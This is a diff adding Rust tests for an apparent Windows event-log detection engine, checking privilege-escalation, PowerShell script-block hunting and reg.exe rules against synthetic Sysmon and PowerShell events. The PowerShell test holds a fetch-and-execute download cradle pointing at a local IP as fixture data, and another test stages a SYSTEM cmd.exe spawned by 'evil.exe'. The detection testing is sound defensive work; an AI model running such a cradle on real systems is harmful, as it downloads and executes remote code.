@@ -210,3 +210,172 @@ fn obfuscation_counts_characters_with_split_and_mvcount() {
     assert_eq!(hits.len(), 1);
     assert_eq!(field(&hits[0], "num_obfuscation"), Some("21"));
 }
+
+#[test]
+fn privilege_escalation_joins_processes_with_processes() {
+    let Some(root) = corpus() else { return };
+    let rule = detection(
+        &root,
+        "windows_privilege_escalation_user_process_spawn_system_process.yml",
+    );
+    let user_proc = event(
+        SYSMON,
+        1,
+        1,
+        "2024-01-01T10:00:00Z",
+        &[
+            ("ProcessGuid", "{AAAAAAAA-0000-0000-0000-000000000001}"),
+            ("ProcessId", "100"),
+            ("Image", "C:\\Users\\bob\\evil.exe"),
+            ("CommandLine", "evil.exe"),
+            ("CurrentDirectory", "C:\\Users\\bob\\"),
+            ("User", "CORP\\bob"),
+            ("IntegrityLevel", "Medium"),
+            (
+                "ParentProcessGuid",
+                "{AAAAAAAA-0000-0000-0000-000000000000}",
+            ),
+            ("ParentImage", "C:\\Windows\\explorer.exe"),
+            ("ParentCommandLine", "explorer.exe"),
+        ],
+    );
+    let system_child = event(
+        SYSMON,
+        1,
+        2,
+        "2024-01-01T10:00:05Z",
+        &[
+            ("ProcessGuid", "{AAAAAAAA-0000-0000-0000-000000000002}"),
+            ("ProcessId", "200"),
+            ("Image", "C:\\Windows\\System32\\cmd.exe"),
+            ("CommandLine", "cmd.exe /c whoami"),
+            ("CurrentDirectory", "C:\\Windows\\System32\\"),
+            ("User", "NT AUTHORITY\\SYSTEM"),
+            ("IntegrityLevel", "System"),
+            (
+                "ParentProcessGuid",
+                "{AAAAAAAA-0000-0000-0000-000000000001}",
+            ),
+            ("ParentImage", "C:\\Users\\bob\\evil.exe"),
+            ("ParentCommandLine", "evil.exe"),
+        ],
+    );
+    let hits = run(&rule, &[user_proc.clone(), system_child]);
+    assert_eq!(
+        hits.len(),
+        1,
+        "{:#?}",
+        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
+    );
+    let h = &hits[0];
+    assert_eq!(field(h, "process_name"), Some("evil.exe"));
+    assert_eq!(field(h, "user"), Some("CORP\\bob"));
+    assert_eq!(field(h, "system_process_name"), Some("cmd.exe"));
+    assert_eq!(field(h, "system_user"), Some("NT AUTHORITY\\SYSTEM"));
+    assert_eq!(field(h, "system_process_integrity_level"), Some("system"));
+    let ids: Vec<u64> = h
+        .aggregate
+        .as_ref()
+        .unwrap()
+        .records
+        .iter()
+        .map(|r| r.record_id)
+        .collect();
+    assert_eq!(ids, vec![1, 2]);
+    // Without the SYSTEM child there is nothing to join.
+    assert!(run(&rule, &[user_proc]).is_empty());
+}
+
+#[test]
+fn powershell_hunting_scores_with_addtotals() {
+    let Some(root) = corpus() else { return };
+    let rule = detection(&root, "powershell_4104_hunting.yml");
+    let sb = |record: u64, text: &str| {
+        event(
+            "Microsoft-Windows-PowerShell/Operational",
+            4104,
+            record,
+            "2024-01-01T10:00:00Z",
+            &[
+                ("MessageNumber", "1"),
+                ("MessageTotal", "1"),
+                ("ScriptBlockText", text),
+                ("ScriptBlockId", "{x}"),
+            ],
+        )
+    };
+    let evs = [
+        sb(
+            1,
+            "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')",
+        ),
+        sb(2, "Write-Output 1"),
+    ];
+    let hits = run(&rule, &evs);
+    let score = |h: &evtxscan::hit::Hit| field(h, "values(Score)").map(str::to_string);
+    let mut scores: Vec<Option<String>> = hits.iter().map(score).collect();
+    scores.sort();
+    // iex 2 + webclient 5 = 7; the plain script scores 0.
+    assert_eq!(scores, vec![Some("0".to_string()), Some("7".to_string())]);
+    let h = hits.iter().find(|h| field(h, "iex") == Some("2")).unwrap();
+    assert_eq!(field(h, "webclient"), Some("5"));
+    assert_eq!(field(h, "user"), Some("S-1-5-18"));
+    assert_eq!(field(h, "dest"), Some("WS01.corp.local"));
+}
+
+#[test]
+fn search_subsearch_filters_by_its_rows() {
+    let Some(root) = corpus() else { return };
+    let rule = detection(&root, "suspicious_reg_exe_process.yml");
+    let p = |record: u64, pid: &str, image: &str, ppid: &str, parent: &str| {
+        event(
+            SYSMON,
+            1,
+            record,
+            "2024-01-01T10:00:00Z",
+            &[
+                ("ProcessId", pid),
+                ("Image", image),
+                ("CommandLine", "x"),
+                ("User", "CORP\\bob"),
+                ("ParentProcessId", ppid),
+                ("ParentImage", parent),
+            ],
+        )
+    };
+    let evs = [
+        p(
+            1,
+            "100",
+            "C:\\Windows\\System32\\cmd.exe",
+            "50",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        ),
+        p(
+            2,
+            "300",
+            "C:\\Windows\\System32\\reg.exe",
+            "100",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
+        p(
+            3,
+            "200",
+            "C:\\Windows\\System32\\cmd.exe",
+            "50",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        ),
+    ];
+    let hits = run(&rule, &evs);
+    assert_eq!(
+        hits.len(),
+        1,
+        "{:#?}",
+        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
+    );
+    assert_eq!(field(&hits[0], "process_id"), Some("100"));
+    assert_eq!(
+        field(&hits[0], "parent_process_name"),
+        Some("powershell.exe")
+    );
+}
